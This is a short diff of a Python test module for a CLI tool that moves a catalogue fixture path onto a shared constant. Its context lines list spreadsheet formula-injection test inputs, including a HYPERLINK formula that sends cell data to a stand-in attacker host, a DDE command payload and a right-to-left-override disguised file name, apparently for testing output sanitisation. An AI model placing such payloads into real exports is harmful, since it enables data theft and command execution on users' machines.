@@ -13,9 +13,10 @@ from click.testing import CliRunner
 from edcbridge.cli import main
 from edcbridge.deliver.results import Outcome, write_results
 from edcbridge.output import text_cell
+from tests.conftest import FIXTURES
 from tests.test_pipeline import _awards_with_ids
 
-CATALOGUE = Path(__file__).parent.parent / "fixtures" / "imperial" / "catalogue.yaml"
+CATALOGUE = FIXTURES / "imperial" / "catalogue.yaml"
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)"]
 OVERRIDE = "BIDI-\u202egpj.exe\u202c"
 
